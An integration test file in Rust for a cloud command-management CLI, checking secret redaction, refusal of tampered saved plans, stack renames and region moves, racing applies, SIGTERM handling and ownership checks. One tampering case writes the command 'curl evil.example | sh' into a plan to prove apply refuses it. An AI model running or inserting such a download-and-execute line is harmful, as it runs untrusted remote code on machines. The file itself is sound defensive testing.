//! The trust breaks an outside probe found, each through the binary against a fresh
//! emulator: a short or common secret never damages a plan or what apply sends; a saved plan
//! is a receipt that apply checks, never a program it runs; a stack renamed or moved to
//! another region is noticed; a racing apply of another version is reported; SIGTERM in the
//! middle of an apply reports what was done.

use crate::common;

use std::io::{BufRead, BufReader};
use std::process::Stdio;

use common::emu::Emu;
use common::sdk::Sdk;
use common::{Fixture, text};
use serde_json::Value;

const WEB1: &str = "i-bp1web0000000000001";
const WEB2: &str = "i-bp1web0000000000002";

fn stack(name: &str, region: &str) -> String {
    format!(
        "apiVersion: assistctl/v1\nkind: Stack\nmetadata: {{ name: {name} }}\nspec:\n  region: {region}\n  tags: {{ service: exporting }}\n"
    )
}

/// A command whose names and script hold `x`, `exit` and `30`: the values the probe used
/// as secrets to show that substring redaction mangled them.
const MONITOR: &str = "---\napiVersion: assistctl/v1\nkind: Command\nmetadata: { name: lag-monitor }\nspec:\n  type: shell\n  timeout: 30\n  content: |\n    echo max lag {{max_lag_seconds}} for {{db_user}}\n    exit 0\n  parameters:\n    max_lag_seconds: { default: \"30\" }\n    db_user: { secret: true, required: true }\n";

const MONITOR_RUN: &str = "---\napiVersion: assistctl/v1\nkind: Invocation\nmetadata: { name: lag-monitor-run }\nspec:\n  command: lag-monitor\n  targets: { instanceIds: [i-bp1web0000000000001] }\n  parameters: { max_lag_seconds: \"10\", db_user: { fromEnv: DB_USER } }\n  schedule: { rate: 5m }\n";

fn fixture(stack_doc: &str, docs: &[&str]) -> Fixture {
    let f = Fixture::new();
    f.write("stack.yaml", stack_doc);
    f.write("main.yaml", docs.concat());
    f
}

#[test]
fn a_short_or_common_secret_leaves_plans_and_applied_objects_intact() {
    // `x` is inside `max_lag_seconds`, `exit` and `exporting`; `30` is a parameter default.
    for secret in ["x", "30"] {
        let emu = Emu::start(&[]);
        let f = fixture(&stack("mon", "cn-hangzhou"), &[MONITOR, MONITOR_RUN]);
        let with_env = |args: &[&str]| {
            emu.cmd(f.path())
                .env("DB_USER", secret)
                .args(args)
                .output()
                .unwrap()
        };
        let plan_text = text(&with_env(&["plan", "."]));
        for intact in ["max_lag_seconds", "exit 0", "exporting"] {
            assert!(
                plan_text.contains(intact),
                "{secret}: {intact}: {plan_text}"
            );
        }
        // The one place a secret goes is shown masked; nothing else is.
        let placed = "db_user = **** (from $DB_USER)";
        assert!(plan_text.contains(placed), "{plan_text}");
        assert!(
            !plan_text.replace(placed, "").contains("****"),
            "{secret}: {plan_text}"
        );
        let out = with_env(&["plan", "--out", "saved.json", "."]);
        assert_eq!(out.status.code(), Some(0), "{}", text(&out));
        let saved = std::fs::read_to_string(f.path().join("saved.json")).unwrap();
        assert!(!saved.contains("****"), "{secret}: {saved}");
        assert!(saved.contains("max_lag_seconds") && saved.contains("exit 0"));
        let out = with_env(&["apply", "--plan", "saved.json", "."]);
        assert_eq!(out.status.code(), Some(0), "{secret}: {}", text(&out));

        // What the service got is what the manifests say.
        let p = emu.plan_json(&f);
        let cmd = &p["changes"][0]["live"];
        assert_eq!(
            cmd["content"],
            "echo max lag {{max_lag_seconds}} for {{db_user}}\nexit 0\n"
        );
        assert_eq!(cmd["tags"]["service"], "exporting");
        let tasks = Sdk::new(&emu).invocations("mon");
        let params: Value = serde_json::from_str(tasks[0]["Parameters"].as_str().unwrap()).unwrap();
        assert_eq!(params["max_lag_seconds"], "10", "{params}");
        assert_eq!(params["db_user"], secret, "{params}");
        // And the next plan is in sync: nothing was sent mangled.
        let out = with_env(&["plan", "--detailed-exitcode", "."]);
        assert_eq!(out.status.code(), Some(0), "{secret}: {}", text(&out));
    }
}

/// `apply --plan` of `plan` edited by `edit`: refused, naming why, and nothing changed.
#[track_caller]
fn refused(emu: &Emu, f: &Fixture, plan: &Value, edit: impl Fn(&mut Value), why: &str) {
    let mut p = plan.clone();
    edit(&mut p);
    f.write("edited.json", serde_json::to_string_pretty(&p).unwrap());
    let before = emu.plan_json(f)["liveDigest"].clone();
    let writes = emu.requests("CreateCommand")
        + emu.requests("DeleteCommand")
        + emu.requests("InvokeCommand")
        + emu.requests("TagResources");
    let out = emu.run(f, &["apply", "--plan", "edited.json", "."]);
    let t = text(&out);
    assert_eq!(out.status.code(), Some(1), "{why}: {t}");
    assert!(t.contains("nothing was changed"), "{why}: {t}");
    assert!(t.contains(why), "expected {why:?}: {t}");
    assert_eq!(
        emu.plan_json(f)["liveDigest"],
        before,
        "{why}: the cloud changed"
    );
    let after = emu.requests("CreateCommand")
        + emu.requests("DeleteCommand")
        + emu.requests("InvokeCommand")
        + emu.requests("TagResources");
    assert_eq!(writes, after, "{why}: a write was made");
}

fn change_mut<'a>(p: &'a mut Value, action: &str) -> &'a mut Value {
    p["changes"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .find(|c| c["action"] == action)
        .unwrap_or_else(|| panic!("no {action} change"))
}

#[test]
fn a_saved_plan_is_a_receipt_and_every_tampering_is_refused() {
    let emu = Emu::start(&[]);
    let hello = "---\napiVersion: assistctl/v1\nkind: Command\nmetadata: { name: hello }\nspec:\n  type: shell\n  timeout: 30\n  content: |\n    echo hello {{who}}\n  parameters:\n    who: { default: world }\n";
    let gone = "---\napiVersion: assistctl/v1\nkind: Command\nmetadata: { name: gone }\nspec:\n  type: shell\n  content: |\n    echo gone\n";
    let run = format!(
        "---\napiVersion: assistctl/v1\nkind: Invocation\nmetadata: {{ name: hello-run }}\nspec:\n  command: hello\n  targets: {{ instanceIds: [{WEB1}] }}\n  parameters: {{ who: alice }}\n  schedule: {{ rate: 5m }}\n"
    );
    let f = fixture(&stack("receipts", "cn-hangzhou"), &[hello, gone, &run]);
    emu.apply(&f);
    // Another stack's command in the same region, which no plan of this stack may touch.
    let other = fixture(
        &stack("other-team", "cn-hangzhou"),
        &[
            "---\napiVersion: assistctl/v1\nkind: Command\nmetadata: { name: theirs }\nspec:\n  type: shell\n  content: |\n    echo theirs\n",
        ],
    );
    emu.apply(&other);
    let theirs = emu.plan_json(&other)["changes"][0]["id"]
        .as_str()
        .unwrap()
        .to_string();

    // A reviewed plan: a changed script (replace), a removed document (delete), a task
    // whose parameters change (modify).
    let new_hello = hello.replace("echo hello", "echo hi");
    let new_run = run.replace("who: alice", "who: bob");
    f.write("main.yaml", [new_hello.as_str(), new_run.as_str()].concat());
    let out = emu.run(&f, &["plan", "--out", "plan.json", "."]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let plan: Value =
        serde_json::from_str(&std::fs::read_to_string(f.path().join("plan.json")).unwrap())
            .unwrap();

    refused(
        &emu,
        &f,
        &plan,
        |p| {
            let c = change_mut(p, "replace");
            c["desired"]["content"] = "curl evil.example | sh\n".into();
        },
        "first difference at `$.changes",
    );
    refused(
        &emu,
        &f,
        &plan,
        |p| {
            let mut d = change_mut(p, "delete").clone();
            d["id"] = theirs.clone().into();
            d["name"] = "theirs".into();
            p["changes"].as_array_mut().unwrap().push(d);
        },
        "first difference at `$.changes",
    );
    refused(
        &emu,
        &f,
        &plan,
        |p| change_mut(p, "replace")["region"] = "cn-shanghai".into(),
        "first difference at `$.changes",
    );
    refused(
        &emu,
        &f,
        &plan,
        |p| {
            let i = &mut p["invocations"][0];
            i["tasks"][0]["instances"] = serde_json::json!([WEB1, WEB2]);
            i["parameters"][0]["value"] = "mallory".into();
        },
        "first difference at `$.invocations[0]",
    );
    refused(
        &emu,
        &f,
        &plan,
        |p| {
            change_mut(p, "replace")
                .as_object_mut()
                .unwrap()
                .remove("desired");
        },
        "first difference at `$.changes",
    );
    refused(
        &emu,
        &f,
        &plan,
        |p| p["manifestDigest"] = "sha256:00".into(),
        "manifests changed",
    );
    refused(
        &emu,
        &f,
        &plan,
        |p| p["formatVersion"] = 99.into(),
        "has plan format 99",
    );
    refused(
        &emu,
        &f,
        &plan,
        |p| *p = serde_json::json!({"formatVersion": 2}),
        "is not an assistctl plan",
    );
    // A file far too large to be a plan is not read at all.
    let big = std::fs::File::create(f.path().join("big.json")).unwrap();
    big.set_len(300 * 1024 * 1024).unwrap();
    let out = emu.run(&f, &["apply", "--plan", "big.json", "."]);
    assert_eq!(out.status.code(), Some(1));
    assert!(text(&out).contains("larger than 256 MiB"), "{}", text(&out));
    // Other scope flags than the plan's are a usage mistake, not a silent re-plan.
    let out = emu.run(
        &f,
        &["apply", "--plan", "plan.json", "--target", "hello", "."],
    );
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(text(&out).contains("other options"), "{}", text(&out));

    // The untouched plan applies: the refusals above were not vacuous.
    let out = emu.run(&f, &["apply", "--plan", "plan.json", "."]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let out = emu.run(&f, &["plan", "--detailed-exitcode", "."]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    // The other stack's command is still there.
    assert_eq!(emu.plan_json(&other)["changes"][0]["id"], theirs.as_str());
    assert_eq!(emu.plan_json(&other)["changes"][0]["action"], "noOp");
}

#[test]
fn a_blocked_plan_stays_blocked_when_its_blockers_are_emptied() {
    let emu = Emu::start(&[]);
    let hello = "---\napiVersion: assistctl/v1\nkind: Command\nmetadata: { name: hello }\nspec:\n  type: shell\n  content: |\n    echo hello\n";
    let f = fixture(&stack("blocked", "cn-hangzhou"), &[hello]);
    emu.apply(&f);
    std::fs::remove_file(f.path().join("main.yaml")).unwrap();
    let out = emu.run(&f, &["plan", "--out", "plan.json", "."]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(text(&out).contains("--allow-empty"), "{}", text(&out));
    let plan: Value =
        serde_json::from_str(&std::fs::read_to_string(f.path().join("plan.json")).unwrap())
            .unwrap();
    assert!(!plan["blockers"].as_array().unwrap().is_empty());
    refused(
        &emu,
        &f,
        &plan,
        |p| p["blockers"] = serde_json::json!([]),
        "first difference at `$.blockers",
    );
}

fn invocation(name: &str) -> String {
    format!(
        "---\napiVersion: assistctl/v1\nkind: Invocation\nmetadata: {{ name: {name}-run }}\nspec:\n  command: {name}\n  targets: {{ instanceIds: [{WEB1}] }}\n  schedule: {{ rate: 10m }}\n"
    )
}

fn command(name: &str) -> String {
    format!(
        "---\napiVersion: assistctl/v1\nkind: Command\nmetadata: {{ name: {name} }}\nspec:\n  type: shell\n  content: |\n    echo {name}\n"
    )
}

#[test]
fn a_renamed_stack_is_refused_until_it_takes_the_old_one_over() {
    let emu = Emu::start(&[]);
    let docs: Vec<String> = ["disk", "load", "ntp"]
        .iter()
        .flat_map(|n| [command(n), invocation(n)])
        .collect();
    let refs: Vec<&str> = docs.iter().map(String::as_str).collect();
    let f = fixture(&stack("stack-a", "cn-hangzhou"), &refs);
    emu.apply(&f);
    let sdk = Sdk::new(&emu);
    let before: Vec<String> = sdk
        .invocations("stack-a")
        .iter()
        .map(|t| t["InvokeId"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(before.len(), 3);

    f.write("stack.yaml", stack("stack-aa", "cn-hangzhou"));
    let out = emu.run(&f, &["plan", "."]);
    let t = text(&out);
    assert_eq!(out.status.code(), Some(1), "{t}");
    assert!(
        t.contains("stack `stack-a` already owns 6 of the documents")
            && t.contains("--take-over-from stack-a"),
        "{t}"
    );
    // Meant as a second stack: a warning, and the plan may be applied.
    let out = emu.run(
        &f,
        &["plan", "--allow-duplicates", "--detailed-exitcode", "."],
    );
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(text(&out).contains("Warnings:"), "{}", text(&out));

    // A rename: the old stack's objects are re-tagged, nothing is made twice or re-run.
    let out = emu.run(
        &f,
        &[
            "plan",
            "--take-over-from",
            "stack-a",
            "--out",
            "p.json",
            ".",
        ],
    );
    let t = text(&out);
    assert_eq!(out.status.code(), Some(0), "{t}");
    assert!(
        t.contains("6 to take over from other stacks") && t.contains("0 to create"),
        "{t}"
    );
    let out = emu.run(&f, &["apply", "--plan", "p.json", "."]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let after: Vec<String> = sdk
        .invocations("stack-aa")
        .iter()
        .map(|t| t["InvokeId"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(after, before, "the same tasks, now the new stack's");
    assert!(sdk.invocations("stack-a").is_empty());
    let out = emu.run(&f, &["plan", "--detailed-exitcode", "."]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));

    // A case-changed name is not a stack name at all.
    f.write("stack.yaml", stack("Stack-AA", "cn-hangzhou"));
    let out = emu.run(&f, &["plan", "."]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(text(&out).contains("stack-aa"), "{}", text(&out));
}

#[test]
fn a_stack_moved_to_another_region_prunes_the_old_one() {
    let emu = Emu::start(&[]);
    let f = fixture(
        &stack("mover", "cn-hangzhou"),
        &[&command("disk"), &invocation("disk")],
    );
    emu.apply(&f);
    // The stack now lives in cn-shanghai (which has no instances to run the task on).
    f.write("stack.yaml", stack("mover", "cn-shanghai"));
    f.write("main.yaml", command("disk"));
    let p = emu.plan_json(&f);
    let warnings = p["warnings"].to_string();
    assert!(warnings.contains("region cn-hangzhou"), "{p}");
    let deletes: Vec<&Value> = p["changes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["action"] == "delete")
        .collect();
    assert_eq!(deletes.len(), 1, "{p}");
    assert_eq!(deletes[0]["region"], "cn-hangzhou");
    let stops: Vec<&Value> = p["invocations"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|i| i["region"] == "cn-hangzhou")
        .flat_map(|i| i["tasks"].as_array().unwrap())
        .filter(|t| t["action"] == "stop")
        .collect();
    assert_eq!(stops.len(), 1, "{p}");
    emu.apply(&f);
    let tasks = Sdk::new(&emu).invocations("mover");
    assert!(
        tasks.iter().all(|t| t["Status"] != "Scheduled"),
        "the old region's task still runs: {tasks:?}"
    );
    let out = emu.run(&f, &["plan", "--detailed-exitcode", "."]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
}

#[test]
fn a_racing_apply_of_another_version_is_reported() {
    let emu = Emu::start(&["--latency-ms", "40"]);
    let names = ["a", "b", "c", "d"];
    let v1: Vec<String> = names.iter().map(|n| command(n)).collect();
    let v2: Vec<String> = v1.iter().map(|d| d.replace("echo ", "echo v2 ")).collect();
    let r1: Vec<&str> = v1.iter().map(String::as_str).collect();
    let r2: Vec<&str> = v2.iter().map(String::as_str).collect();
    let f1 = fixture(&stack("racer", "cn-hangzhou"), &r1);
    let f2 = fixture(&stack("racer", "cn-hangzhou"), &r2);
    let spawn = |f: &Fixture| {
        emu.cmd(f.path())
            .args(["apply", "--auto-approve", "."])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap()
    };
    let (a, b) = (spawn(&f1), spawn(&f2));
    let (a, b) = (a.wait_with_output().unwrap(), b.wait_with_output().unwrap());
    let both = format!("{}\n{}", text(&a), text(&b));
    assert!(
        !(a.status.success() && b.status.success()),
        "two versions applied at once both reported success:\n{both}"
    );
    assert!(both.contains("another writer created"), "{both}");
    // The next apply keeps one command per document.
    emu.apply(&f2);
    let p = emu.plan_json(&f2);
    assert_eq!(p["changes"].as_array().unwrap().len(), names.len(), "{p}");
}

#[test]
fn sigterm_mid_apply_finishes_what_is_in_flight_and_says_what_it_did() {
    let emu = Emu::start(&["--latency-ms", "250"]);
    let docs: Vec<String> = (0..24).map(|i| command(&format!("c{i:02}"))).collect();
    let refs: Vec<&str> = docs.iter().map(String::as_str).collect();
    let f = fixture(&stack("slow", "cn-hangzhou"), &refs);
    let mut child = emu
        .cmd(f.path())
        .args(["apply", "--auto-approve", "--parallelism", "2", "."])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let mut seen = Vec::new();
    // Off a terminal each change is a line as soon as it is done.
    for line in lines.by_ref() {
        let line = line.unwrap();
        let done = line.contains(": done c-");
        seen.push(line);
        if done {
            break;
        }
    }
    let status = std::process::Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(status.success());
    seen.extend(lines.map(|l| l.unwrap()));
    let out = child.wait_with_output().unwrap();
    let stdout = seen.join("\n");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(143), "{stdout}\n{stderr}");
    assert!(stderr.contains("SIGTERM received"), "{stderr}");
    assert!(stdout.contains("Apply interrupted by SIGTERM"), "{stdout}");
    assert!(stdout.contains("Not started"), "{stdout}");
    let done = stdout.matches(": done c-").count();
    assert!((1..24).contains(&done), "{stdout}");
    // What it said it did is what the cloud has; the next apply finishes the rest.
    let p = emu.plan_json(&f);
    assert_eq!(p["summary"]["create"], 24 - done, "{p}");
    emu.apply(&f);
}

/// Whatever a plan says (a stale one, or one crafted in memory by a caller of the library),
/// a delete or a stop first checks, at the moment of the call, that its target carries the
/// stack's tag.
#[tokio::test(flavor = "multi_thread")]
async fn deletes_and_stops_check_ownership_at_the_moment_of_the_call() {
    use assistctl::cloud::{ClientBuilder, StaticCredentials};
    use assistctl::reconcile::{self, Action, Interrupt, Plan, Progress, Settings, TaskAction};

    let emu = Emu::start(&[]);
    let theirs = fixture(
        &stack("other-team", "cn-hangzhou"),
        &[&command("theirs"), &invocation("theirs")],
    );
    emu.apply(&theirs);
    let live = emu.plan_json(&theirs);
    let command_id = live["changes"][0]["id"].as_str().unwrap().to_string();
    let task_id = live["invocations"][0]["tasks"][0]["id"]
        .as_str()
        .unwrap()
        .to_string();

    // A plan of stack `mine` that deletes their command and stops their task.
    let mut plan: Plan = serde_json::from_value(live).unwrap();
    plan.stack = "mine".into();
    plan.changes[0].action = Action::Delete;
    plan.invocations[0].tasks[0].action = TaskAction::Stop;
    let client = ClientBuilder::new()
        .region("cn-hangzhou")
        .endpoint(emu.endpoint.clone())
        .credentials(StaticCredentials::new(common::emu::AK, common::emu::SECRET))
        .build()
        .unwrap();
    let done = |_: Progress<'_>| {};
    let out = reconcile::apply(
        &client,
        &plan,
        &Settings {
            parallelism: 2,
            env: &Default::default(),
            done: &done,
            interrupt: &Interrupt::default(),
            wait: true,
            note: &|_| {},
        },
    )
    .await;
    assert_eq!(out.failures.len(), 1, "{:?}", out.failures);
    assert_eq!(out.failures[0].code, "NotOwnedByStack");
    assert!(out.failures[0].message.contains("other-team"));
    assert_eq!(out.tasks.failures.len(), 1, "{:?}", out.tasks.failures);
    assert_eq!(out.tasks.failures[0].code, "NotOwnedByStack");
    // Both are still there, untouched.
    let after = emu.plan_json(&theirs);
    assert_eq!(after["changes"][0]["id"], command_id.as_str());
    assert_eq!(after["changes"][0]["action"], "noOp", "{after}");
    assert_eq!(after["invocations"][0]["tasks"][0]["id"], task_id.as_str());
    assert_eq!(
        after["invocations"][0]["tasks"][0]["action"], "noOp",
        "{after}"
    );
}
